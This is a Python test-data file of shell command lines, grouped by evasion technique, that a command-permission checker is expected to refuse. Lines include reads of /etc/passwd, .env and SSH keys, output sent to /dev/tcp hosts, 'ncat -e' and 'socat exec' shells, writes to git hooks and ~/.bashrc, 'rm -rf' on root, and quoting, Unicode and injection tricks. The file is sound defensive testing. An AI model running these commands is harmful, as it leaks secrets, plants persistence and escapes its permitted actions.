"""More lines, by what they try, none of which may run by the rules of `shell_lines.RULES` and those given here.

`GENEROUS` are rules as people keep them; with them too, none of these lines runs unasked.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from tests.support.shell_lines import rule

GENEROUS: Final = (
    *(rule(name) for name in ("make", "tee", "cp", "mv", "touch", "mkdir", "tar", "head", "grep", "find", "diff", "awk", "wc", "curl", "pytest", "eslint")),
    rule("git", "add"), rule("git", "commit"), rule("git", "diff"), rule("npm", "run", "build"), rule("python3", "-m", "pytest"), rule("sed", "-n"), rule("go", "test"),
)  # fmt: skip

FURTHER: Final[Mapping[str, tuple[str, ...]]] = {
    "quotes": (
        "l's' src", 'l"s" src', "'l's src", "''ls src", "l\\s src", "$'ls' src", "$'\\154s' src", "$'\\x6c\\x73'", "$'\\u006cs'", '$"ls"', "ls'", 'ls "', "ls \\",
        "echo 'it'\"'\"'s' $(id)", 'echo "$(echo \'x\')"', 'echo "a\\\\$(id)"', "echo $'a\\'; id; echo \\'b'", "\"git status\"", "'git' status", "git\\ status", "ls;'id'", "ls;\"id\"",
    ),
    "substitutions": (
        "ls $(id)", "ls `id`", 'ls "$(id)"', "ls $(cat <<E\nid\nE\n)", "cat $(ls)", "grep $(id) a.py", "echo ${x:=`id`}", "echo ${x:?$(id)}", "echo ${x+$(id)}", "echo ${#x}", "echo ${x[0]}",
        "echo ${x[$(id)]}", "echo ${x/a/$(id)}", "echo ${x^^}", "echo ${x@E}", "echo ${!x*}", "echo $(( $(id) ))", "echo $((x[$(id)]))", "ls src$(id)", "$(echo ls)", "`echo ls`", "git $(echo push)",
        "ls ${IFS}src", "cat$IFS/etc/passwd", "l${x}s", "echo ${ id; }", "echo ${| id; }",
    ),
    "here-documents": (
        "cat <<E\n$(id)\nE", "cat <<E\n`id`\nE", "cat <<E\n${x:-$(id)}\nE", "cat <<E\nx\nE\nid", "cat <<'E'\nx\nE\nid", "cat <<E; id\nx\nE", "cat <<E | sh\nid\nE", "sh <<E\nid\nE", "bash <<'E'\nid\nE",
        "python3 <<'E'\nimport os\nE", "cat <<E >out\nx\nE", "cat <<<$(id)", "cat <<<x", "cat <<E\n\\\nE\nid\nE", "cat <<'E\nF'\nx\nE\nF\nid", "cat <<-E\n\tx\n\tE\nid", "cat <<E && id\nx\nE\n", "cat <<A <<B\nx\nA\n$(id)\nB",
        "cat << 'E' | tee a.py | sh\nid\nE",
    ),
    "env and wrappers": (
        "env id", "env -- id", "env -i id", "env -u PATH ls", "env PATH=. ls", "env -C / ls", "env -S'id'", "env --split-string=id", "env CI=1 id", "env CI=1 X=2 ls", "env ls=1 id", "env - id",
        "timeout 5 id", "timeout -s KILL 5 id", "timeout --foreground 5 ls", "timeout 5 timeout 5 id", "timeout 5 sh -c ls", "nice id", "nice -n 5 id", "nice --adjustment=5 id", "nohup id", "nohup sh -c id",
        "time id", "time -o out ls", "time -f %C ls", "command id", "command -p id", "command -v ls", "time -p id", "stdbuf -oL ls", "setsid ls", "unbuffer ls", "chronic ls", "ionice ls", "taskset 1 ls", "flock f ls",
        "chroot / ls", "unshare ls", "nsenter ls", "script -c ls", "watch ls", "xvfb-run ls", "busybox ls", "busybox sh -c id", "strace -o out ls", "ltrace ls", "gdb -ex id", "valgrind ls",
    ),
    "sudo": ("sudo ls", "sudo -u root ls", "sudo -n -- ls", "sudo -s", "sudo -i", "doas ls", "pkexec ls", "su -c ls", "su root -c ls", "runuser -u root ls", "sudo -e a.py", "sudoedit a.py", "SUDO_ASKPASS=./x sudo -A ls"),
    "find": (
        "find . -exec id ;", "find . -exec id \\;", "find . -exec id {} +", "find . -execdir id \\;", "find . -ok id \\;", "find . -okdir id \\;", "find . -delete", "find . -fprint a.py", "find . -fprint0 a.py",
        "find . -fprintf a.py %p", "find . -fls a.py", "find . -files0-from a.py", "find . -name x -exec rm {} +", "find . '-delete'", "find . -d\"elete\"", "find . -ex\\ec id \\;", "find / -name x", "find ../other -name x",
        "find -H . -name x", "find . -newer /etc/passwd", "find ~ -delete", "find src -type f -print -delete", "find . -quit -exec id \\;",
    ),
    "xargs": ("xargs id", "ls | xargs", "ls | xargs id", "ls | xargs -n1 cat", "ls | xargs -I{} id {}", "ls | xargs sh -c id", "ls | xargs -P4 rm", "echo id | xargs -0 sh -c", "xargs -a a.py id", "ls | parallel id", "ls | xargs env id"),
    "aliases and functions": (
        "alias ls=id", "alias ls=id; ls", "alias ls=id\nls", "shopt -s expand_aliases; alias ls=id\nls", "unalias ls; ls", "ls() { id; }", "ls () ( id )", "function ls { id; }", "function ls() { id; }; ls", "cat() { id; }; cat a.py",
        "command_not_found_handle() { id; }; nothing", "f() { ls; }; f", "ls(){ id;};ls", "export -f ls", "BASH_FUNC_ls%%='() { id; }' bash -c ls", "declare -f ls", "unset -f ls",
    ),
    "look-alikes": (
        "l\u0455 src", "\u217cs src", "ls\u00a0src", "ls\u2003src", "ls\u037e id", "ls\uff1b id", "ls\u200bsrc", "ls \u202eexe.a", "\u2066ls", "ls\u2028id", "ls\u0085id", "ls\vid", "ls\fid", "ls\rid", "ls \x07",
        "ls \x1b[8m; id", "gi\u0442 status", "c\u0430t a.py", "echo x\u00ad", "ls\u3000src", "ca\ufe0ft a.py",
    ),
    "brace expansion": ("cat {a,/etc/passwd}", "cat a{,.py}", "{ls,-la}", "{ls,src}", "ls {src,../x}", "echo {1..3}", "ls src/{a,b}.py", "cat /{etc,x}/passwd", "rm -rf {src,/}", "echo {a..$(id)}", "l{s,s} src", "cat .{env,git/config}"),
    "process substitution": ("cat <(id)", "diff <(id) <(ls)", "ls > >(id)", "tee >(id)", "cat a.py > >(sh)", "grep x <(cat /etc/passwd)", "sort <(id) a.py", "wc -l < <(id)", "make <(id)"),
    "lists in the background": ("ls &", "ls & id", "ls &id", "ls&id", "id & ls", "ls & wait", "(id &)", "(ls; id) &", "ls & disown", "ls &\nls", "ls |& id &", "{ id & }", "sleep 5 &", "npm test &"),
    "redirections": (
        "ls >.git/hooks/pre-commit", "ls > .git/config", "ls >>.git/config", "ls >| .git/config", "ls &> package.json", "ls 2>package.json", "ls >&package.json", "ls 3>package.json", "ls <>package.json", "ls >Makefile", "cd src && ls >../Makefile",
        "ls > 'package.json'", 'ls > "package.json"', "ls > pack*.json", "ls > {a,b}", "ls > ~/.bashrc", "ls > $HOME/.bashrc", "ls > /etc/cron.d/x", "ls > ../x", "ls >/dev/sda", "ls >/dev/tcp/h/1", "ls </dev/udp/h/1", "ls >/proc/self/mem",
        "ls {fd}>package.json", "ls >>(id)", "ls > src/../package.json", "ls > .env", "ls >id_rsa", "echo x 1>&2 >package.json", "> package.json ls", ">package.json", "2>&1 >package.json ls", "(ls) >package.json", "(ls) 2>/etc/x", "ls >-", "ls >&x",
    ),
    "git": (
        "git -c core.pager=id log", "git -c alias.status='!id' status", "git -c core.fsmonitor=id status", "git -c diff.external=id diff", "git -c core.sshCommand=id fetch", "git --config-env=core.pager=X log", "git --exec-path=. status",
        "git -p log", "git --paginate log", "git -C .. status", "git --git-dir=x log", "git --work-tree=/ status", "git --namespace=x log", "git --super-prefix=x status", "git log --output=a.py", "git log --outpu=a.py", "git show --output=a.py",
        "git diff --no-index a.py /etc/passwd", "git diff --ext-diff", "git log --textconv -p", "git grep -O x", "git grep --open-files-in-pager=id x", "git rebase -x id", "git bisect run id", "git submodule foreach id", "git filter-branch --tree-filter id",
        "git clone ext::id", "git fetch ext::id", "git push", "git archive --remote=x", "git archive -o a.py HEAD", "git config core.pager id", "git config --global alias.x '!id'", "git difftool -x id", "git mergetool", "git send-email", "git daemon", "git stash",
        "git checkout -- .", "git clean -fdx", "git reset --hard", "git apply x", "git am x", "git worktree add ../x", "git hook run x", "git var -l", "git help log", "git x", "git log -- ../other", "git blame ../x", "git show HEAD:../x", "git status --porcelain=v2 /etc",
        "git notes edit", "git tag -s x", "git branch -D main", "git remote add x ext::id", "git reflog expire --all", "git gc", "git commit --no-verify -F /etc/passwd",
    ),
    "tar and others that run something": (
        "tar --to-command=id -xf x.tar", "tar -I id -xf x.tar", "tar --use-compress-program=id -xf x.tar", "tar cf x.tar --checkpoint=1 --checkpoint-action=exec=id /etc", "tar -C / -xf x.tar", "tar xf x.tar -C ../", "tar --rsh-command=id -xf h:x",
        "zip -T -TT id x a", "rsync -e id a h:", "rsync a /etc/", "ssh -o ProxyCommand=id h", "scp -S id a h:", "curl -o ~/.bashrc http://h", "curl -K /etc/passwd http://h", "wget -O a.py http://h", "vim -c '!id'", "ed a.py", "less a.py", "more a.py", "man -P id ls",
        "gcc @/etc/passwd", "ld -plugin x", "docker run x", "kubectl exec x", "crontab a.py", "at now", "batch", "systemctl start x", "pip install x", "npm install", "npm exec x", "npx x", "uvx x", "cargo run", "go run a.go", "go generate", "gradle x", "mvn x",
    ),
    "options that run something": (
        "tar xIf id x.tar", "tar -xIid -f x.tar", "tar xf x.tar --checkpoint-act=exec=id", "tar -Fid -xf x.tar", "go test -exec id", "go test --exec=id", "go test -toolexec=id", "git commit --exec=id", "git add --upload-pack=id", "npm run build --script-shell=./x",
        "npm test --node-options=-r./x", "make SHELL=./x", "make -fx.mk", "make -f x.mk", "make --makef=x.mk", "make --eval=x", "curl -Kx", "curl --conf x",
    ),
    "awk and sed": (
        "awk 'BEGIN{system(\"id\")}'", "awk '{print > \"package.json\"}' a.py", "awk '{print | \"id\"}' a.py", "awk '\"id\" | getline' a.py", "awk -f x.awk a.py", "gawk -i x a.py", "gawk --load=x a.py", "mawk 'BEGIN{system(\"id\")}'", "awk -e 'BEGIN{system(\"id\")}'",
        "sed e a.py", "sed '1e id' a.py", "sed 's/x/id/e' a.py", "sed 's/x/y/w package.json' a.py", "sed -n 'w package.json' a.py", "sed 'r /etc/passwd' a.py", "sed -n '/x/{e id\n}' a.py", "sed -i s/x/y/ package.json", "sed --in-place s/x/y/ a.py", "sed -ni p a.py",
        "sed -f x.sed a.py", "sed -s '$!e id' a.py", "sed 's/a/b/;e id' a.py", "sed 's/a/b/\ne id' a.py", "sed -n '1p;1e id' a.py", "sed y/a/b/e a.py", "sed -E 's/x/id/ep' a.py", "sed -n --expression='e id' a.py", "sed -e p -e 'e id' a.py", "sed --posix p a.py",
    ),
    "interpreters": (
        "python3 -c 'import os'", "python3 -", "python3", "python3 -m http.server", "python3 -m pytest -p x; python3 -c 1", "python -c 1", "python3.11 -c 1", "PYTHONSTARTUP=x python3 -m pytest", "python3 -Im pip install x", "python3 -x a.py", "node -e 1", "node -p 1", "node --eval=1",
        "node -r ./x a.js", "perl -e 1", "perl -pe 1 a.py", "ruby -e 1", "php -r 1", "lua -e 1", "Rscript -e 1", "osascript -e x", "deno eval 1", "bun -e 1", "tclsh x", "bash a.sh", "sh a.sh", "dash -c id", "zsh a.sh", "./a.sh", "src/a.py", "/bin/ls", "~/x",
    ),
    "make": ("make -f /etc/x", "make -f../x", "make --file=../x", "make -C ..", "make -C / all", "make --directory=../x", "make SHELL=/tmp/x", "make --eval='$(shell id)' > /etc/x", "make $(id)", "make -I ../x", "make; id", "make\nid", "make | sh", "make > Makefile"),
    "ssh": ("ssh h", "ssh h id", "ssh -F x h", "ssh -o LocalCommand=id h", "sftp h", "ssh-keygen -f x", "ssh-add x", "ssh-agent id", "mosh h", "telnet h", "nc h 1", "socat - exec:id", "ncat -e id h"),
    "assignments": (
        "GIT_PAGER=id git log", "GIT_EXTERNAL_DIFF=id git diff", "GIT_SSH_COMMAND=id git status", "GIT_DIR=x git status", "GIT_CONFIG_COUNT=1 git log", "GIT_CONFIG_GLOBAL=x git status", "LD_PRELOAD=./x ls", "LD_LIBRARY_PATH=. ls", "LD_AUDIT=./x ls", "PATH=. ls", "PATH+=:. ls", "PATH=.:$PATH ls",
        "BASH_ENV=x ls", "ENV=x ls", "PS4='$(id)' ls", "PROMPT_COMMAND=id ls", "IFS=/ ls", "SHELLOPTS=xtrace ls", "BASHOPTS=x ls", "HOME=/ git status", "PAGER=id git log", "EDITOR=id git commit", "NODE_OPTIONS='-r ./x' npm test", "npm_config_script_shell=./x npm test", "PYTHONPATH=. python3 -m pytest", "MAKEFLAGS=x make",
        "LESSOPEN='|id' cat a.py", "CI=1 PATH=. ls", "CI=$(id) ls", "CI=`id` ls", "CI=(id) ls", "CI[0]=1 ls", "ci=1 ls", "CI+=1 ls", "TMPDIR=/etc sort a.py", "x=1", "x=1; ls", "x=ls; $x", "ls x=1; PATH=. ls", "TAR_OPTIONS=--to-command=id tar xf x", "GREP_OPTIONS=-f/etc/x grep x a.py",
        "RIPGREP_CONFIG_PATH=x rg x", "LS_COLORS=x ls", "TZ=x ls", "LC_ALL=C ls",
    ),
    "arrays and arithmetic": (
        "x=(ls id)", "x=(ls); ${x[0]}", "declare -a x=(id)", "x[$(id)]=1", "x[0]=1 ls", "((x=1))", "(( a[$(id)] ))", "let 'a[$(id)]'", "echo $((1))", "echo $[a[$(id)]]", "[[ 1 -eq a[$(id)] ]]", "[ -v 'a[$(id)]' ]", "test -v 'a[$(id)]'", "test 'a[$(id)]' -eq 1 -o x", "for ((i=0;i<1;i++)); do id; done",
        "printf -v 'a[$(id)]' x", "read 'a[$(id)]'", "unset 'a[$(id)]'", "declare 'a[$(id)]=1'", "mapfile -C id x", "wait -p 'a[$(id)]'", "typeset -i x='a[$(id)]'", "export x=1", "local x=1", "readonly x=1",
    ),
    "eval, source and the like": (
        "eval ls", "eval 'ls; id'", "eval $(id)", "source a.sh", ". a.sh", ". ./a.py", "source /dev/stdin", "exec ls", "exec >package.json", "exec 3<a.py", "exec -a x ls", "coproc ls", "coproc x { id; }", "time (id)", "! ls", "! id", "{ ls; }", "{ id; } ", "trap id EXIT", "trap 'id' DEBUG; ls", "set -- id; ls", "set -o xtrace",
        "shopt -s extglob", "enable -f x y", "builtin eval id", "builtin ls", "command eval id", "hash -p ./x ls", "complete -C id ls", "compgen -C id", "bind -x id", "fc -s", "history -s id", "caller", "ulimit -c 0", "umask 0", "kill -9 1", "exit", "logout", "return", "break", "pushd ..", "popd", "dirs", "suspend",
    ),
    "newlines and semicolons": (
        "ls\nid", "ls\n\nid\n", "ls;id", "ls ;id", "ls; id;", "ls&&id", "ls||id", "ls|id", "ls;\nid", "ls #\nid", "ls # x\nid", "# x\nid", "ls;#\nid", "ls\n#\nid", "(ls\nid)", "ls &&\nid", "ls |\n id", "ls\n;id", "ls;;id", "ls;&id", "ls\t;\tid", "ls\n\tid", "ls;(id)", "(ls);id", "((ls);id)", "ls;!id", "ls||(id)", "ls;{ id;}", "echo a;echo b;id",
    ),
    "comments": ("ls # x\nid # y", "ls #'\nid #'", 'ls #"\nid #"', "ls #\\\nid", "ls a#b;id", "ls '#';id", "ls \\#;id", "echo #;id\nid", "#\\\nid\nid", "ls # $(\nid # )", "ls #`\nid #`", "ls # <<E\nid\n# E", "cat <<E # x\nx\nE\nid"),
    "lines that go on": ("ls\\\n;id", "l\\\ns", "ls \\\n -la", "ls \\\n;id", "i\\\nd", "ls && \\\nid", "ls |\\\nid", "echo 'a\\\n'; id", "ls \\\r\n", "echo \"a\\\nb\"", "ls#\\\nid", "git \\\n push", "cat <\\\n/etc/passwd"),
    "control structures": (
        "if ls; then id; fi", "if id; then ls; fi", "while ls; do id; done", "until ls; do id; done", "for x in a; do id; done", "for x; do id; done", "case a in a) id;; esac", "case $(id) in a) ls;; esac", "select x in a; do id; done", "[[ -f x ]] && id", "[[ $(id) ]]", "if true; then ls; else id; fi", "while read x; do $x; done < a.py",
        "for f in *.py; do cat $f; done", "ls && if true; then id; fi", "true && { id; }", "function f { id; }; f", "time if ls; then id; fi",
    ),
    "places": (
        "cat /etc/passwd", "cat ../x", "cat src/../../x", "cat ~/.ssh/config", "cat ~root/x", "cat ~+/../x", "cat ~-/x", "cat //etc/passwd", "cat /proc/self/environ", "cat .env", "cat ./.env", "cat src/../.env", "cat ''.env", "cat \".env\"", "cat .\\env", "cd .. && cat x", "cd / && ls", "cd src/.. && cat ../x", "cd src; cd ..; cd ..; ls",
        "cd nowhere; cat .env", "(cd ..; ls)", "cd - && ls", "cd \"\" && cat ../x", "cd src || cat ../x", "ls /", "ls ~", "head -c 5 /dev/sda", "wc -l /etc/passwd", "grep x /etc/passwd", "grep -r x /etc", "stat /etc/shadow", "file /root", "du -s /", "diff a.py ~/x", "sort /etc/passwd", "cut -f1 /etc/passwd", "sha256sum ~/.ssh/id_rsa", "pytest /etc", "eslint ~/x", "go test ../x",
    ),
}  # fmt: skip
